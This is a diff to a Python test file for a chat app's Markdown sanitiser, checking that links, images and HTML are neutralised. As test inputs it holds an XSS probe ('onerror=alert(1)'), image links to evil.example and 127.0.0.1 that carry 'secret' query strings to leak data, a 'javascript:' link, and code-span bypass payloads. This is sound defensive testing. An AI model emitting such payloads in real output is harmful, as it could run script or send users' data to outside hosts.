@@ -4,6 +4,7 @@ the messages it is given (`ragarena.answering.conversation`)."""
 from __future__ import annotations
 
 import pytest
+from markdown_it import MarkdownIt
 
 from ragarena.answering.conversation import example_questions, history_from_messages
 from ragarena.answering.safe_markdown import plain, safe
@@ -11,29 +12,53 @@ from ragarena.errors import UserError
 from ragarena.i18n import localize
 
 
+def _page(shown: str) -> str:
+    """The HTML a CommonMark renderer draws from a shown message."""
+    return MarkdownIt("commonmark").render(shown)
+
+
 def test_images_html_data_uris_and_foreign_links_are_neutralised():
     text = ("Mira ![gato](http://evil.example/x.png?q=secreto) <img src=x onerror=alert(1)> "
             "[pulsa](https://evil.example/a) ![d](data:image/png;base64,AAAA) http://evil.example/b www.evil.example")
-    shown = safe(text, hosts=())
-    assert "](" not in shown and "<img" not in shown and "data:image" not in shown
-    assert "gato" in shown and "pulsa" in shown and "&lt;img src=x onerror=alert(1)&gt;" in shown
-    assert "http\\://evil.example/b" in shown and "www\\.evil.example" in shown  # shown, never linked
-    assert plain(shown) == ("Mira gato <img src=x onerror=alert(1)> pulsa d http://evil.example/b www.evil.example")
+    page = _page(safe(text, hosts=()))
+    assert "<img" not in page and "<a" not in page and "data:image" not in page
+    # What the reader sees: the alt texts, the link's words, the tag and the addresses as typed.
+    assert "Mira gato &lt;img src=x onerror=alert(1)&gt; pulsa d http://evil.example/b www.evil.example" in page
+    assert plain(safe(text, hosts=())) == ("Mira gato <img src=x onerror=alert(1)> pulsa d http://evil.example/b "
+                                           "www.evil.example")
+
+
+def test_the_issue_payloads_load_nothing():
+    """Text the old pattern filter left alone because it looked like code (issue 27)."""
+    for payload in ("`x\n\n![y](http://127.0.0.1:9/p5.png?q=secret)\n\n`",
+                    "```x```\n![i](http://127.0.0.1:9/p6.png?q=secret)\n```",
+                    '`x\n\n<img src="http://127.0.0.1:9/p7.png">\n\n`'):
+        page = _page(safe(payload, hosts=()))
+        assert "<img" not in page and "<a" not in page  # the alt text, or the tag as typed
+    assert "&lt;img src=&quot;http://127.0.0.1:9/p7.png&quot;&gt;" in page
 
 
 def test_emphasis_code_and_allowed_links_stay():
     text = "**Horario**: de 9 a 14 `<b>`; ver [la web](https://www.biblio.example/horario) o [otra](https://x.example)"
     shown = safe(text, hosts=("biblio.example",))
-    assert shown.startswith("**Horario**: de 9 a 14 `<b>`;")
-    assert "[la web](https://www.biblio.example/horario)" in shown and "otra" in shown and "x.example" not in shown
-    for plain_text in ("a \\. b", "1 < 2 & 3 > 2", "¡Hola! [nota]"):
+    assert _page(shown) == ('<p><strong>Horario</strong>: de 9 a 14 <code>&lt;b&gt;</code>; ver '
+                            '<a href="https://www.biblio.example/horario">la web</a> o otra</p>\n')
+    assert plain(shown, hosts=("biblio.example",)) == text.replace("[otra](https://x.example)", "otra")
+    for plain_text in ("1 < 2 & 3 > 2", "¡Hola! [nota]", "precio: 5 $ (IVA)", "- uno\n- dos", "# Sedes"):
         assert plain(safe(plain_text, hosts=())) == plain_text
+    assert plain(safe("a \\. b", hosts=())) == "a . b"  # the escape was markup: the reader saw "a . b"
+
+
+def test_code_keeps_its_text_and_cannot_hold_latex_delimiters():
+    shown = safe("Usa `echo $$` o:\n\n```sh\nkill $$\n```", hosts=())
+    assert "$$" not in shown  # Gradio cuts $$…$$ out for KaTeX before reading the Markdown
+    assert plain(shown) == "Usa `echo $$` o:\n\n```sh\nkill $$\n```"
 
 
 def test_the_link_allow_list_comes_from_the_environment(monkeypatch):
     monkeypatch.setenv("RAGARENA_LINK_HOSTS", " biblio.example , ")
     assert safe("[web](https://biblio.example/x)") == "[web](https://biblio.example/x)"
-    assert safe("[web](javascript:void(0))") == "\\[web\\](javascript\\:void(0))"  # shown as typed, not a link
+    assert "<a" not in _page(safe("[web](javascript:void(0))"))  # shown as typed, not a link
     monkeypatch.delenv("RAGARENA_LINK_HOSTS")
     assert safe("[web](https://biblio.example/x)") == "web"
 
